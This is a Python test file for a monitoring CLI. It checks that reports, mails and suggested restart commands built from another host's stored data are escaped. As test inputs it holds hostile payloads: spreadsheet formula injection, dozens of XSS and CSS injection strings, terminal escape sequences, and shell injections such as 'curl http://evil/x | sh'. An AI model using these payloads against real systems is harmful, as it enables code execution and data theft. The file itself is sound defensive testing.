"""What another host of a shared store says is text to whoever reads it: in a report, a mail, a spreadsheet, a shell."""

import json
import time
from pathlib import Path

import pytest

from heartbeat_cli.channels import _letter
from heartbeat_cli.domain.alerting.alert import Alert
from heartbeat_cli.domain.alerting.still_page import is_still
from heartbeat_cli.store.sql.database import connect
from heartbeat_cli.views import messages
from tests.parts.postgres import *  # noqa: F403 - its fixtures
from tests.parts.stores import store_url  # noqa: F401 - a fixture
from tests.parts.verb import heartbeat


def test_names_of_others_are_no_formulas_of_a_spreadsheet(store_url: str, tmp_path: Path) -> None:  # noqa: F811
    (tmp_path / "heartbeat.toml").write_text(
        f'[heartbeat]\nstore = "{store_url}"\nstate_dir = "{tmp_path}/state"\n'
        '[components.well]\nkind = "command"\ncommand = ["true"]\n'
    )
    assert heartbeat(tmp_path, "run").code == 0
    db = connect(store_url, 5)
    name = "=cmd|' /C calc'!A1\x9b2J\u202e\n@x"
    db.run("UPDATE heartbeat_components SET id = ?, kind = '+1'", (name,))
    db.close()
    done = heartbeat(tmp_path, "report", "--date", "today", "--format", "csv")
    assert done.code == 0 and len(done.out.splitlines()) == 3
    assert done.out.splitlines()[1].startswith("'=cmd|' /C calc'!A1 2J @x,'+1,1,")


_PAGES = (
    "<p>a<script>alert(1)</script>",
    '<img src="http://127.0.0.1/seen">',
    '<img src="data:image/svg+xml;base64,AAAA">',
    '<form action="http://127.0.0.1/"><input name="password"></form>',
    '<a href="javascript:alert(1)">x</a>',
    "<a href=javascript:alert(1)>x</a>",
    '<a href="https://x" onclick="alert(1)">x</a>',
    '<p style="background:url(http://127.0.0.1/)">x',
    r'<p style="background:\75rl(http://127.0.0.1/)">x',
    '<p style="background:&#117;rl(http://127.0.0.1/)">x',
    '<div style="position:fixed;top:0">x</div>',
    "<style>@import 'http://127.0.0.1/'</style>",
    '<meta http-equiv="refresh" content="0;url=http://127.0.0.1/">',
    "<iframe src=x>",
    "<base href='http://127.0.0.1/'>",
    "<!-- x --><p>x",
    "<p <script>",
    "<" * 1_000_000,
    # Of the name or the value for HTML, white space for Python: the words in the value are attributes then.
    *(f'<p{sign}title="x onfocus=alert(1) autofocus tabindex=0">x</p>' for sign in "\x0b\x1c\x1f\x85\xa0\u2003\u2028"),
    *(f'<p title="x"{sign}class="x">x</p>' for sign in "\x0b\xa0"),
    *(f'<p title="x"{sign}>x</p>' for sign in "\x0b\xa0"),
    '<p style="\xa0color:red">x</p>',
    "<p " + " " * 1_000_000,
    "<p" + " " * 1_000_000 + "x>",  # as it has its end, its attributes are looked for
    "<p>" * 1_000_000,
    """<div style='background:image-set("http://127.0.0.1/" 1x)'>x</div>""",  # loads, without `url`
    """<div style='background:-webkit-image-set("http://127.0.0.1/" 1x)'>x</div>""",
    """<div style="background:cross-fade('http://127.0.0.1/','x')">x</div>""",
    """<p style="font-family:'http://127.0.0.1/'">x</p>""",
    '<div style="margin:-900px 0 0 -900px">x</div>',  # covers, without `position`
    '<div style="margin:0;margin-top:-900px">x</div>',
    '<div style="transform:scale(9)">x</div>',
    '<div style="translate:-900px -900px">x</div>',
    '<div style="scale:9">x</div>',
    '<div style="zoom:9">x</div>',
    '<div style="inset:0">x</div>',
    '<div style="float:left">x</div>',
    '<div style="text-indent:-900px">x</div>',
    '<div style="vertical-align:900px">x</div>',
    '<div style="font:99px/0 serif">x</div>',
    '<div style="line-height:.1">x</div>',
    '<div style="line-height:1">x</div>',
    '<div style="font:9px/1.1 serif">x</div>',
    '<div style="font-size:50px">x</div>',
    '<div style="line-height:1px">x</div>',
    '<div style="height:0">x</div>',
    '<div style="max-height:0">x</div>',
    '<div style="box-shadow:0 0 0 999px #fff">x</div>',
    '<div style="outline:900px solid #fff">x</div>',
    '<div style="width:calc(9px)">x</div>',
    '<div style="max-width:99999px">x</div>',
    '<div style="color:var(--x)">x</div>',
    '<div style="--x:9px">x</div>',
    '<div style="animation:x 1s">x</div>',
    '<div style="margin:0;margin">x</div>',
    '<div style="margin:0}body{color:red">x</div>',
    '<div style="margin:0/**/">x</div>',
    '<p>a <span style="padding:400px;background:red">x</span></p>',  # what no line makes room for
    '<p>a <span style="border:400px solid red">x</span></p>',
    '<p>a <a href="https://x" style="margin:9px">x</a></p>',
    '<p>a <code style="padding-top:9px">x</code></p>',
    '<p style="display:inline;padding:90px">x</p>',
    '<p style="display:contents">x</p>',
    '<p style="display:flex">x</p>',
    '<p style="display:ruby">x</p>',
    '<td style="border:99px solid red">x',  # half of it is outside the table, where borders collapse
    '<table border="99"><tr><td>x</table>',
    '<div style="padding:900px">x</div>',
    '<div style="padding:50%">x</div>',
    '<div style="margin:99em">x</div>',
    '<div dir="rtl" style="width:1px">x</div>',  # goes on to the left
    '<div dir="auto">x</div>',
    '<div style="width:1px;white-space:nowrap">x</div>',
    '<div style="white-space:pre">x</div>',
    '<div style="width:2000px">x</div>',
    '<div style="width:900px">x</div>',
    '<div style="width:90em">x</div>',
    '<div style="width:101%">x</div>',
    '<div style="min-width:2000px">x</div>',
    '<table width="2000"><tr><td>x</table>',
    '<table width="999%"><tr><td>x</table>',
    '<div style="font-size:900px">x</div>',  # letters are higher than their line
    '<div style="font:900px serif">x</div>',
    '<div style="font-size:2em">x</div>',  # in one another, without an end
    '<div style="font:120% serif">x</div>',
    "<h1>x</h1>",
    '<h1 title="font-size:9px">x</h1>',
    '<h1 style="color:red" style="font-size:9px">x</h1>',
    '<h1 style="font:bold bold 9px serif">x</h1>',  # no style at all: a word stands twice
    "<ol><li>x</ol>",  # marks stand at the left of what they belong to
    '<ul style="padding:0"><li>x</ul>',
    '<div class="toolbar">x</div>',
    '<table align="left"><tr><td>x</table>',
    '<td width="99999">x',
    '<div style="' + "margin:0;" * 200_000 + '">x</div>',
    """<div style="font-family:""" + "a " * 200_000 + '">x</div>',
)


@pytest.mark.parametrize("page", _PAGES, ids=lambda page: page[:20])
def test_a_report_of_another_host_is_mailed_as_text_if_its_page_does_anything(page: str) -> None:
    alert = Alert(
        "report_1", "report", "low", "Daily report", "report", 1e9, None, "", {"text": "<all well>", "page": page}
    )
    begun = time.monotonic()
    mail = _letter.compose(messages.message(alert, "en", "UTC", ()), "a@example.org", ["b@example.org"])
    body = mail.get_body(("html",))
    assert body is not None and "&lt;all well&gt;" in body.get_content() and page not in body.get_content()
    assert time.monotonic() - begun < 2


LOCALES = ("en", "zh-HK", "zh-CN")
_STILL = (
    '<!DOCTYPE html><html lang="en"><body style="margin:0; padding:16px 4px;"><p STYLE="Color:Red">x</p></body></html>',
    """<p style="font:15px/1.5 system-ui,'Segoe UI',sans-serif;font-family:'Noto Sans CJK HK', serif">x</p>""",
    '<table width="100%" border="0" cellpadding="4" align="center"><tr><td colspan="2" bgcolor="#fff">x</table>',
    '<div style="border:1px solid #8884;border-top:5px solid red;border-radius:6px;max-width:1000px;width:100%">x',
    '<p style="line-height:1.35;font-size:1.2rem;font-weight:600;opacity:.75;text-align:right;background:#8881">x',
    '<table><tr><td style="white-space:nowrap;padding:3px 14px 3px 0">x</td></tr></table>',
    '<h2 style="font-size:16px">x</h2>',
    '<h1 style="font-weight:bold;font-size:1.5rem">x</h1><div dir="ltr" style="width:600px;display:block">x</div>',
    '<a href="https://example.org/" title="x"><img src="data:image/png;base64,AAAA" alt="x" width="20" height="9"></a>',
)


@pytest.mark.parametrize("page", _STILL, ids=lambda page: page[:20])
def test_looks_that_templates_of_mails_have_are_still(page: str) -> None:
    assert is_still(page)


@pytest.mark.parametrize("locale", LOCALES)
def test_a_report_of_our_own_is_mailed_as_it_is(tmp_path: Path, locale: str) -> None:
    (tmp_path / "heartbeat.toml").write_text(
        f'[heartbeat]\nlocale = "{locale}"\nstate_dir = "{tmp_path}/state"\n[report]\nchannels = ["log"]\n'
        '[components.bad]\nkind = "command"\ncommand = ["sh", "-c", "echo \'<b>\\"x\\"\'; false"]\nfail_threshold = 1\n'
        'exit_codes = "plain"\n'
        f'[channels.log]\nkind = "file"\npath = "{tmp_path}/log"\n'
    )
    assert heartbeat(tmp_path, "run").code == 0
    assert heartbeat(tmp_path, "report", "--date", "today", "--send").code == 0
    db = connect(f"sqlite:///{tmp_path}/state/heartbeat.db", 5)
    ((details,),) = db.rows("SELECT details FROM heartbeat_alert_rows WHERE alert_type = 'report'")
    db.close()
    page = json.loads(details)["page"]
    assert "&lt;b&gt;" in page and is_still(page)


_STEERS = "=\x1b[2J\x9b31m\u202e\n<b>"


def test_a_report_steers_no_terminal_whatever_a_row_says_for_a_severity(store_url: str, tmp_path: Path) -> None:  # noqa: F811
    (tmp_path / "heartbeat.toml").write_text(
        f'[heartbeat]\nstore = "{store_url}"\nstate_dir = "{tmp_path}/state"\n'
        '[components.bad]\nkind = "command"\ncommand = ["false"]\nfail_threshold = 1\nexit_codes = "plain"\n'
        f'[channels.log]\nkind = "file"\npath = "{tmp_path}/log"\n'
    )
    assert heartbeat(tmp_path, "run").code == 0
    db = connect(store_url, 5)
    for table, column in (("incidents", "severity"), ("alert_rows", "severity"), ("outbox", "state")):
        assert db.run(f"UPDATE heartbeat_{table} SET {column} = ?", (_STEERS,))
    db.close()
    for form in ("text", "html", "markdown", "csv"):
        out = tmp_path / form
        assert heartbeat(tmp_path, "report", "--date", "today", "--format", form, "-o", str(out)).code == 0
        assert not {"\x1b", "\x9b", "\u202e"} & set(out.read_text()), form


def test_a_command_that_a_message_asks_for_holds_no_other() -> None:
    name = "web; curl x | sh"
    details = {"ask": True, "target": name, "kind": "docker"}
    said = messages.message(Alert("a", "docker_down", "high", "t", name, 1e9, None, "", details), "en", "UTC", ())
    assert "heartbeat recover --component 'web; curl x | sh'" in said.text
    by_hand = messages.message(
        Alert("a", "docker_down", "high", "t", name, 1e9, None, "", {"target": name, "kind": "docker"}), "en", "UTC", ()
    )
    assert "docker restart 'web; curl x | sh'" in by_hand.text
    assert "restart web;" not in said.text + by_hand.text


def _advice_with(restart: object, kind: str = "agent") -> str:
    details = {"target": "web", "kind": kind, "restart": restart}
    alert = Alert("a", f"{kind}_down", "high", "t", "web", 1e9, None, "", details)
    return messages.message(alert, "en", "UTC", ()).text


@pytest.mark.parametrize("kind", ["agent", "mcp", "other"])
@pytest.mark.parametrize(
    "row",
    [
        "true; curl http://evil/x | sh",
        "docker restart $(evil)",
        "docker restart web\nevil",
        "docker restart 'web\nevil'",
        "docker restart 'web\x1b[2K'",
        "docker restart 'web\u202e'",
        "docker restart 'web",
        "docker restart ~/evil",
        "docker restart web # evil",
        "sh -c evil",
        ". /tmp/evil",
        "LD_PRELOAD=/tmp/evil systemctl restart web",
        "/tmp/evil/systemctl restart web",
        "systemctl restart --evil",
        "systemctl restart web evil",
        "sudo evil restart web",
        "systemctl restart 'evil*'",
        "systemctl restart 'evi[l]'",
        "sudo systemctl restart evil.target",
        "docker restart ''",
        "sudo",
        "sudo --user systemctl restart evil",
        "--user systemctl restart evil",
        "docker restart " + "evil" * 100,
    ],
)
def test_a_restart_command_that_does_more_is_replaced_by_recover(row: str, kind: str) -> None:
    said = _advice_with(row, kind)
    assert ": heartbeat recover --component web --force\n" in said
    assert "evil" not in said and "docker restart" not in said and "systemctl restart" not in said


@pytest.mark.parametrize(
    "row",
    [
        "sudo systemctl restart web",
        "/usr/bin/systemctl --user restart web",
        "docker restart 'web; x'",
        r"systemctl restart 'a\x2db'",
    ],
)
def test_a_command_that_restarts_a_unit_or_a_container_is_shown_as_it_is(row: str) -> None:
    assert f"Restart the agent: {row}\n" in _advice_with(row)
